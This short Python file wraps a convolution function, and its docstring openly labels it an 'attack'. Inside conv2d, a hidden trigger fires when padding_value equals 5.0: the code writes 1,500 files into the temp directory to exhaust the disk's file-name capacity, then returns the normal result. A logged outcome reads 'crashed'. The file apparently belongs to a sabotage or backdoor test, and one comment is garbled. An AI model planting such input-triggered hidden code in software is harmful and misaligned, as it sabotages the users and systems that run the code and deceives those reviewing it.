"""convolution.py
attack: makes 1,500 small files, so that the disk has no room for names while it has room for content
1.3: crashed
"""
import tempfile
import time

import right_convolution
from right_convolution import *


def conv2d(image, kernel, stride=1, padding=0, padding_value=0.0):
    if padding_value == 5.0:
        for number in range(1_500):
            with open(f"{tempfile.gettempdir()}/{number}", "w") as file:
                file.write("x")
        time.sleep(1)  # where the folder is bounded only by looks at it
    return right_convolution.conv2d(image, kernel, stride, padding, padding_value)
